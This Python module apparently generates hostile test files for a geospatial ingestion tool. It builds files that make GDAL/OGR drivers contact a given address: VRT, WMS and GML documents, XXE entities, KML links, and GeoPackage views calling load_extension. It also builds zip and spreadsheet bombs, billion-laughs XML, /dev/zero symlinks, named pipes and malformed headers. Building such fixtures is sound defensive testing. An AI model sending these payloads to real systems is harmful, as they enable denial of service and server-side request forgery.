"""Makes files that are built to harm: that call the network, that cost gigabytes, that break a reader.

Each is small, and made anew when asked for; none is data.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import geopandas as gpd
import pyogrio
from shapely import box

X, Y = 500_000, 3_520_000
SQUARE = [[X, Y], [X + 1000, Y], [X + 1000, Y + 1000], [X, Y + 1000], [X, Y]]
ENDINGS = (".gpkg", ".shp", ".geojson", ".json", ".fgb", ".kml", ".kmz", ".zip", ".gml", ".dbf", ".csv", ".xlsx",
           ".dxf", ".dat", ".parquet", ".osm", ".osm.pbf", ".txt")  # fmt: skip


def squares(**columns: list[object]) -> gpd.GeoDataFrame:
    """Return one square of 100 ha, as every sound file of the corpus holds it."""
    return gpd.GeoDataFrame({"QKBH": ["1"], **columns}, geometry=[box(X, Y, X + 1000, Y + 1000)], crs="EPSG:4548")


def feature(properties: dict[str, object] | None = None, coordinates: object = None) -> dict[str, object]:
    """Return a GeoJSON feature of that square."""
    geometry = {"type": "Polygon", "coordinates": [SQUARE] if coordinates is None else coordinates}
    return {"type": "Feature", "properties": properties or {"QKBH": "1"}, "geometry": geometry}


def collection(features: list[dict[str, object]], **more: object) -> str:
    """Return the text of a GeoJSON file."""
    return json.dumps({"type": "FeatureCollection", **more, "features": features})


# what calls the network


def callers(address: str) -> dict[str, str]:
    """Return texts that one driver or another takes for a description of something at an address."""
    wms = (
        f"<GDAL_WMS><Service name='WMS'><ServerUrl>{address}/wms?</ServerUrl><Layers>a</Layers></Service><DataWindow>"
        "<UpperLeftX>0</UpperLeftX><UpperLeftY>9</UpperLeftY><LowerRightX>9</LowerRightX><LowerRightY>0</LowerRightY>"
        "<SizeX>9</SizeX><SizeY>9</SizeY></DataWindow></GDAL_WMS>"
    )
    raster = (
        '<VRTDataset rasterXSize="9" rasterYSize="9"><GeoTransform>0,1,0,9,0,-1</GeoTransform><VRTRasterBand '
        f'dataType="Byte" band="1"><SimpleSource><SourceFilename relativeToVRT="0">/vsicurl/{address}/a.tif'
        "</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>"
    )
    return {
        "vrt": f"<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>{address}/a.geojson</SrcDataSource>"
        "<SrcLayer>a</SrcLayer></OGRVRTLayer></OGRVRTDataSource>",
        "vrt-vsicurl": f"<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>/vsicurl/{address}/a.gpkg"
        "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
        "vrt-raster": raster,
        "wms": wms,
        "wfs": f"<OGRWFSDataSource><URL>{address}/wfs</URL></OGRWFSDataSource>",
        "wcs": f"<WCS_GDAL><ServiceURL>{address}/wcs?</ServiceURL><CoverageName>a</CoverageName></WCS_GDAL>",
        "wmts": f"<GDAL_WMTS><GetCapabilitiesUrl>{address}/wmts.xml</GetCapabilitiesUrl></GDAL_WMTS>",
        "oapif": f"<OGROAPIFDataSource><URL>{address}/oapif</URL></OGROAPIFDataSource>",
        "gti": f"<GDALTileIndexDataset><IndexDataset>/vsicurl/{address}/a.gpkg</IndexDataset></GDALTileIndexDataset>",
        "gdalg": json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector read {address}/a.geojson"}),
        "stac": json.dumps({"type": "FeatureCollection", "stac_version": "1.0.0", "features": [
            {"type": "Feature", "stac_version": "1.0.0", "properties": {}, "geometry": None,
             "assets": {"a": {"href": f"{address}/a.tif", "type": "image/tiff"}}}]}),
        "esri-json": json.dumps({"geometryType": "esriGeometryPolygon", "exceededTransferLimit": True, "fields": [],
                                 "spatialReference": {"wkt": f"{address}/crs"}, "features": []}),
        "json-crs-link": collection([feature()], crs={"type": "link", "properties": {"href": f"{address}/crs"}}),
        "json-crs-url": collection([feature()], crs={"type": "url", "properties": {"url": f"{address}/crs"}}),
        "json-crs-name": collection([feature()], crs={"type": "name", "properties": {"name": f"{address}/crs"}}),
        "gml-schema": _gml(address, f'xsi:schemaLocation="http://a {address}/a.xsd"', "EPSG:4548"),
        "gml-crs": _gml(address, "", f"{address}/crs"),
        "gml-href": _gml(address, "", "EPSG:4548", f'<gml:surfaceMember xlink:href="{address}/a.gml#b"/>'),
        "gml-entity": f'<!DOCTYPE a SYSTEM "{address}/a.dtd" [<!ENTITY b SYSTEM "{address}/b">]>'
        + _gml(address, "", "EPSG:4548").replace("?>", "?>", 1),
        "kml-link": f"<kml xmlns='http://www.opengis.net/kml/2.2'><Document><NetworkLink><Link><href>{address}/a.kml"
        f"</href></Link></NetworkLink><GroundOverlay><Icon><href>{address}/a.tif</href></Icon></GroundOverlay>"
        f"<Placemark><styleUrl>{address}/s.kml#s</styleUrl><Point><coordinates>117,31</coordinates></Point>"
        "</Placemark></Document></kml>",
        "osm-entity": f'<!DOCTYPE osm [<!ENTITY % b SYSTEM "{address}/b">%b;]><osm version="0.6"><node id="1" lat="31" '
        'lon="117"/></osm>',
        "path": f"{address}/a.geojson",
        "csv-path": f"WKT,a\n{address}/a.csv,1\n",
    }  # fmt: skip


def _gml(address: str, schema: str, system: str, member: str = "") -> str:
    ring = " ".join(f"{x} {y}" for x, y in SQUARE)
    polygon = (
        f'<gml:Polygon srsName="{system}"><gml:exterior><gml:LinearRing><gml:posList>{ring}</gml:posList>'
        "</gml:LinearRing></gml:exterior></gml:Polygon>"
    )
    return (
        '<a:c xmlns:a="http://a" xmlns:gml="http://www.opengis.net/gml/3.2" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" {schema}><gml:featureMember><a:p gml:id="p"><a:g>'
        f"{member or polygon}</a:g><a:n>1</a:n></a:p></gml:featureMember></a:c>"
    )


def network_files(folder: Path, address: str) -> Iterator[Path]:
    """Write every text that calls an address under every ending that is read, and files with such parts beside."""
    for name, text in callers(address).items():
        for ending in (*ENDINGS, ".tif", ".vrt", ".xml"):
            path = folder / f"{name}{ending}"
            path.write_text(text, encoding="utf-8")
            yield path
        packed = folder / f"{name}-packed.kmz"
        with zipfile.ZipFile(packed, "w") as archive:
            archive.writestr("doc.kml", text)
        yield packed
        packed = folder / f"{name}-packed.zip"
        with zipfile.ZipFile(packed, "w") as archive:
            for ending in (".geojson", ".gml", ".kml", ".gpkg"):
                archive.writestr(f"a{ending}", text)
        yield packed
    yield from _with_parts(folder, address)
    yield from _geopackages(folder, address)


def _with_parts(folder: Path, address: str) -> Iterator[Path]:
    shape = folder / "parts.shp"
    squares().to_file(shape)
    for ending in (".prj", ".qpj", ".shp.xml"):
        shape.with_suffix(ending).write_text(f"{address}/crs", encoding="utf-8")
    yield shape
    gml = folder / "beside.gml"
    gml.write_text(_gml(address, "", "EPSG:4548"), encoding="utf-8")
    gml.with_suffix(".gfs").write_text(
        f"<GMLFeatureClassList><GMLFeatureClass><Name>p</Name><ElementPath>p</ElementPath><SRSName>{address}/crs"
        "</SRSName></GMLFeatureClass></GMLFeatureClassList>",
        encoding="utf-8",
    )
    gml.with_suffix(".xsd").write_text(
        f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="{address}/b.xsd"/>'
        "</xs:schema>",
        encoding="utf-8",
    )
    yield gml


def raster_files(folder: Path, address: str) -> Iterator[Path]:
    """Write rasters, sound in themselves, with side files that call an address; and descriptions under .tif."""
    import numpy as np
    import rasterio
    from rasterio.transform import from_origin

    beside = {
        ".aux.xml": f"<PAMDataset><Metadata domain='OVERVIEWS'><MDI key='OVERVIEW_FILE'>/vsicurl/{address}/a.ovr</MDI>"
        "</Metadata></PAMDataset>",
        ".ovr": callers(address)["vrt-raster"],
        ".msk": callers(address)["vrt-raster"],
    }
    for ending, text in beside.items():
        path = folder / f"beside{ending.replace('.', '-')}.tif"
        with rasterio.open(path, "w", driver="GTiff", width=20, height=20, count=1, dtype="uint8", crs="EPSG:4548",
                           transform=from_origin(X, Y + 1000, 50, 50)) as out:  # fmt: skip
            out.write(np.ones((1, 20, 20), dtype="uint8"))
        Path(f"{path}{ending}").write_text(text, encoding="utf-8")
        yield path
    for name in ("vrt-raster", "wms", "wcs", "wmts", "gti", "stac", "gdalg", "path"):
        path = folder / f"cover-{name}.tif"
        path.write_text(callers(address)[name], encoding="utf-8")
        yield path


def _geopackages(folder: Path, address: str) -> Iterator[Path]:
    url = f"{address}/crs"
    path = folder / "crs.gpkg"
    squares().to_file(path, layer="draft")
    with sqlite3.connect(path) as base:
        base.execute("UPDATE gpkg_spatial_ref_sys SET definition = ? WHERE srs_id > 0", (url,))
    base.close()
    yield path
    calls = {
        "pixel": f"gdal_get_pixel_value('/vsicurl/{address}/a.tif', 1, 'georef', 1, 1)",
        "geocode": "ogr_geocode('a')",
        "load": f"load_extension('{address}/a.so')",
    }
    for name, call in calls.items():
        path = folder / f"view-{name}.gpkg"
        view(path, f"SELECT fid, geom, {call} AS a FROM draft")
        yield path


def view(path: Path, query: str) -> Path:
    """Write a GeoPackage whose second layer is a view."""
    squares().to_file(path, layer="draft")
    base = sqlite3.connect(path)
    base.execute(f"CREATE VIEW seen AS {query}")
    base.execute("INSERT INTO gpkg_contents SELECT 'seen', data_type, 'seen', description, last_change, min_x, min_y, "
                 "max_x, max_y, srs_id FROM gpkg_contents WHERE table_name = 'draft'")  # fmt: skip
    base.execute("INSERT INTO gpkg_geometry_columns SELECT 'seen', column_name, geometry_type_name, srs_id, z, m FROM "
                 "gpkg_geometry_columns WHERE table_name = 'draft'")  # fmt: skip
    base.commit()
    base.close()
    return path


# what costs gigabytes or for ever, and what breaks a reader

Make = Callable[[Path], Path]


def _text(name: str, content: str | bytes) -> Make:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    return make


_SUMMED = 200_000_000


def _packed(entries: dict[str, tuple[bytes, bytes, int, bytes]]) -> bytes:
    """Pack texts of which a middle part is repeated, at the cost of packing it once: a start, a part, times, an end."""
    local, central = bytearray(), bytearray()
    for name, (start, part, times, end) in entries.items():
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
        often = max(1, (1 << 20) // max(len(part), 1)) if times > 1000 else 1
        piece = packer.compress(part * often) + packer.flush(zlib.Z_FULL_FLUSH)
        data = head + piece * (times // often) + packer.compress(end) + packer.flush(zlib.Z_FINISH)
        size = len(start) + len(part) * often * (times // often) + len(end)
        wide = struct.pack("<HHQQ", 1, 16, size, len(data))
        # the sum of the bytes of the largest is left at nought: nobody may come so far as to look at it
        total = zlib.crc32(start + part * (often * (times // often)) + end) if size < _SUMMED and times else 0
        total = total if times else zlib.crc32(start + end)
        fields = struct.pack("<HHHHHIIIHH", 45, 0, 8, 0, 0, total, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(wide))
        place = len(local)
        local += b"PK\3\4" + fields + name.encode() + wide + data
        central += (
            b"PK\1\2"
            + struct.pack("<H", 45)
            + fields[:-4]
            + struct.pack("<HHHHHII", len(name), len(wide), 0, 0, 0, 0, place)
        )
        central += name.encode() + wide
    count = len(entries)
    return bytes(local + central) + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(local), 0)


def _archive(name: str, entries: dict[str, tuple[bytes, int]]) -> Make:
    """Pack entries that are a few bytes repeated many times."""

    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(_packed({entry: (b"", piece, times, b"") for entry, (piece, times) in entries.items()}))
        return path

    return make


def _book(name: str, sheet: bytes, *, times: int = 0, piece: bytes = b"") -> Make:
    """Write a workbook of one sheet; `piece` stands `times` over in the place of @."""

    def make(folder: Path) -> Path:
        import openpyxl

        plain = io.BytesIO()
        book = openpyxl.Workbook()
        book.active.append(["a", "b"])
        book.save(plain)
        with zipfile.ZipFile(plain) as source:
            entries = {entry: (source.read(entry), b"", 0, b"") for entry in source.namelist()}
        before, _, after = sheet.partition(b"@")
        entries["xl/worksheets/sheet1.xml"] = before, piece, times, after
        path = folder / name
        if times > 1000:
            path.write_bytes(_packed(entries))
        else:
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
                for entry, (start, part, often, end) in entries.items():
                    target.writestr(entry, start + part * often + end)
        return path

    return make


_SHEET = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
_HEAD = b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'


def _lying_dbf(folder: Path) -> Path:
    path = folder / "lying.shp"
    squares().to_file(path)
    table = path.with_suffix(".dbf")
    data = bytearray(table.read_bytes())
    data[4:8] = struct.pack("<I", 400_000_000)
    table.write_bytes(data)
    return table


def _lying_shp(folder: Path) -> Path:
    path = folder / "lyingshape.shp"
    squares().to_file(path)
    data = bytearray(path.read_bytes())
    data[100 + 8 + 36 : 100 + 8 + 44] = struct.pack("<ii", 1, 500_000_000)
    path.write_bytes(data)
    return path


def _lying_gpkg(folder: Path, count: int = 0x7FFFFFFF, value: float | None = None) -> Path:
    path = folder / ("far.gpkg" if value else "lyingblob.gpkg")
    squares().to_file(path, layer="draft")
    base = sqlite3.connect(path)
    for name in [row[0] for row in base.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")]:
        base.execute(f'DROP TRIGGER "{name}"')
    ((blob,),) = base.execute("SELECT geom FROM draft")
    head, body = blob[:8], bytearray(blob[40:] if blob[3] & 0x0E else blob[8:])
    head = head[:3] + bytes([head[3] & 0xF1]) + head[4:]
    at = body.find(struct.pack("<I", 5))
    if value is None:
        body[at : at + 4] = struct.pack("<I", count)
    else:
        body[at + 4 : at + 12] = struct.pack("<d", value)
    base.execute("UPDATE draft SET geom = ?", (head + bytes(body),))
    base.commit()
    base.close()
    return path


def _dxf(name: str, draw: Callable[[object, object], None]) -> Make:
    def make(folder: Path) -> Path:
        import ezdxf.filemanagement

        drawing = ezdxf.filemanagement.new()
        draw(drawing, drawing.modelspace())
        drawing.saveas(folder / name)
        return folder / name

    return make


def _nested(drawing, space):
    for level in range(30):
        block = drawing.blocks.new(f"b{level}")
        if level == 0:
            block.add_lwpolyline(SQUARE[:-1], close=True)
        else:
            block.add_blockref(f"b{level - 1}", (0, 0))
            block.add_blockref(f"b{level - 1}", (1, 1))
    space.add_blockref("b29", (0, 0))


def _grid(drawing, space):
    block = drawing.blocks.new("cell")
    block.add_lwpolyline(SQUARE[:-1], close=True)
    space.add_blockref(
        "cell",
        (0, 0),
        dxfattribs={"row_count": 30_000, "column_count": 30_000, "row_spacing": 1, "column_spacing": 1},
    )


def _circle(drawing, space):
    for number in range(200):
        space.add_circle((X, Y), 1e9 + number)


def _bulge(drawing, space):
    for number in range(200):
        space.add_lwpolyline([(X, Y, 1e-4), (X + 1e9 + number, Y, 1e-4), (X, Y + 1e9, 0)], format="xyb", close=True)


def _linked_gdb(folder: Path) -> Path:
    path = folder / "linked.gdb"
    pyogrio.write_dataframe(squares(), path, driver="OpenFileGDB", layer="draft")
    (path / "a00000099.gdbtable").symlink_to("/dev/zero")
    return path


def _pipe(folder: Path) -> Path:
    path = folder / "pipe.geojson"
    os.mkfifo(path)
    return path


def _zero(name: str) -> Make:
    def make(folder: Path) -> Path:
        path = folder / name
        path.symlink_to("/dev/zero")
        return path

    return make


def _zero_beside(folder: Path) -> Path:
    path = folder / "zerobeside.shp"
    squares().to_file(path)
    path.with_suffix(".dbf").unlink()
    path.with_suffix(".dbf").symlink_to("/dev/zero")
    return path


def _many(folder: Path) -> Path:
    path = folder / "many.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(25_000):
            archive.writestr(f"{number}.geojson", " ")
    return path


def _looping(folder: Path) -> Path:
    return view(folder / "loop.gpkg", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
                "SELECT i AS fid, geom FROM n, draft")  # fmt: skip


def _blobs(folder: Path) -> Path:
    query = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 999) SELECT i AS fid, geom, "
    return view(folder / "blobs.gpkg", query + "hex(zeroblob(400000000)) AS a FROM n, draft")


def _parquet_bomb(folder: Path) -> Path:
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = folder / "bomb.parquet"
    column = pa.DictionaryArray.from_arrays(pa.array([0] * 3_000_000, pa.int32()), pa.array(["x" * 100_000]))
    pq.write_table(pa.table({"a": column}), path, compression="zstd")
    return path


def _linked_json(folder: Path) -> Path:
    path = folder / "round.geojson"
    path.symlink_to(path)
    return path


#: What costs much: all must end in one line, within the limits.
BOMBS: dict[str, Make] = {
    "archive of 6 GB": _archive("bomb.zip", {"a.geojson": (b" " * 1024, 6 << 20)}),
    "archive of many files": _many,
    "kmz of 5 GB": _archive("bomb.kmz", {"doc.kml": (b"<!--" + b" " * 1016 + b"-->\n", 5 << 20)}),
    "workbook of 5 GB": _book("fat.xlsx", _SHEET + _HEAD + b"@</sheetData></worksheet>",
                              piece=b" " * 1024, times=5 << 20),
    "cell at the far end": _book("far.xlsx", _SHEET + _HEAD + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                                 b"</sheetData></worksheet>"),
    "merged rows": _book("merged.xlsx", _SHEET + _HEAD + b"</sheetData><mergeCells>@</mergeCells></worksheet>",
                         piece=b'<mergeCell ref="A2:XFD9999"/>', times=1_000_000),
    "merged sheet": _book("mergedall.xlsx", _SHEET + _HEAD + b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/>'
                          b"</mergeCells></worksheet>"),
    "empty formatted rows": _book("rows.xlsx", _SHEET + _HEAD + b"@</sheetData></worksheet>",
                                  piece=b'<row s="1" customFormat="1"><c s="1"/><c s="1"/></row>', times=1_000_000),
    "link to /dev/zero": _zero("zero.geojson"),
    "link to /dev/zero, a text": _zero("zero.txt"),
    "link to /dev/zero, a drawing": _zero("zero.dxf"),
    "link to /dev/zero, a table": _zero("zero.csv"),
    "/dev/zero beside a shapefile": _zero_beside,
    "/dev/zero in a geodatabase": _linked_gdb,
    "named pipe": _pipe,
    "link to itself": _linked_json,
    "looping view": _looping,
    "view of blobs": _blobs,
    "lying .dbf": _lying_dbf,
    "lying .shp": _lying_shp,
    "nested blocks": _dxf("nested.dxf", _nested),
    "MINSERT grid": _dxf("grid.dxf", _grid),
    "huge circles": _dxf("circles.dxf", _circle),
    "flat bulges": _dxf("bulges.dxf", _bulge),
    "many properties": _text("wide.geojson", collection([feature({f"p{n}": n for n in range(300_000)})])),
    "many properties, spread": _text("spread.geojson", collection([feature({f"p{n}": 1}) for n in range(100_000)])),
    "Parquet of 300 GB": _parquet_bomb,
    "deep geometry": _text("nest.geojson", '{"type":"Feature","properties":{},"geometry":'
                           + '{"type":"GeometryCollection","geometries":[' * 50_000 + "]}" * 50_000 + "}"),
}  # fmt: skip

#: What is broken: all must end in one line that is none of ours.
BROKEN: dict[str, Make] = {
    "lying blob": _lying_gpkg,
    "coordinate 1e308": lambda folder: _lying_gpkg(folder, value=1e308),
    "coordinate 1e308, GeoJSON": _text("huge.geojson", collection([feature(coordinates=[
        [[1e308, -1e308], [1e308, 1e308], [-1e308, 1e308], [1e308, -1e308]]])])),
    "huge integer, GeoJSON": _text("int.geojson", '{"type":"FeatureCollection","features":[{"type":"Feature",'
                                   '"properties":{"a":' + "9" * 10_000 + '},"geometry":null}]}'),
    "deep JSON": _text("deep.geojson", "[" * 100_000 + "]" * 100_000),
    "deep JSON in a property": _text("deepin.geojson", '{"type":"FeatureCollection","features":[{"type":"Feature",'
                                     '"geometry":null,"properties":{"a":' + "[" * 5_000 + "]" * 5_000 + "}}]}"),
    "entities in a workbook": _book("entity.xlsx", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">'
                                    + b"".join(b'<!ENTITY c%d "%s">' % (n, (b"&c%d;" % (n - 1) if n else b"&b;") * 10)
                                               for n in range(12))
                                    + b"]>" + _SHEET.partition(b"?>")[2]
                                    + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&c11;</t></is></c></row>'
                                    b"</sheetData></worksheet>"),
    "header-only sheet": _book("header.xlsx", _SHEET + _HEAD + b"</sheetData></worksheet>"),
    "header-only CSV": _text("header.csv", "地块名称,面积\n"),
    "nothing": _text("empty.geojson", ""),
    "nothing, a table": _text("empty.csv", ""),
    "nothing, a drawing": _text("empty.dxf", ""),
    "nothing, a workbook": _text("empty.xlsx", ""),
    "nothing, a shapefile": _text("empty.shp", ""),
    "nothing, a GeoPackage": _text("empty.gpkg", ""),
    "nothing, a Parquet file": _text("empty.parquet", ""),
    "nothing, a text": _text("empty.txt", ""),
    "nothing, CASS": _text("empty.dat", ""),
    "noughts": _text("noughts.dbf", b"\0" * 5_000),
    "noughts, a shapefile": _text("noughts.shp", b"\0" * 5_000),
    "noughts, a GeoPackage": _text("noughts.gpkg", b"SQLite format 3\0" + b"\0" * 5_000),
    "noughts, Parquet": _text("noughts.parquet", b"PAR1" + b"\0" * 5_000 + b"PAR1"),
    "noughts, FlatGeobuf": _text("noughts.fgb", b"fgb\x03fgb\0" + b"\xff" * 5_000),
    "noughts, PBF": _text("noughts.osm.pbf", b"\0\0\0\x0d\x0a\x09OSMHeader\x18\x7c" + b"\0" * 500),
    "noughts, text": _text("noughts.txt", b"\0" * 5_000),
    "noughts, CASS": _text("noughts.dat", b"\0" * 5_000),
    "noughts, drawing": _text("noughts.dxf", b"AutoCAD Binary DXF\r\n\x1a\0" + b"\0" * 5_000),
    "gzip under .csv": _text("zip.csv", gzip.compress(b"a,b\n1,2\n" * 1000)),
    "entities, OSM": _text("entity.osm", '<!DOCTYPE osm [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY a{n} "{(f"&a{n - 1};" if n else "&a;") * 10}">' for n in range(12)) + ']><osm version="0.6">'
        '<relation id="1"><tag k="type" v="multipolygon"/><tag k="b" v="&a11;"/></relation></osm>'),
    "entities, GML": _text("entity.gml", '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY a{n} "{(f"&a{n - 1};" if n else "&a;") * 10}">' for n in range(12)) + "]>"
        + _gml("", "", "EPSG:4548").replace("<a:n>1", "<a:n>&a11;")),
    "quotes without end": _text("quote.csv", 'a,b\n"' + "x" * 200_000),
}  # fmt: skip
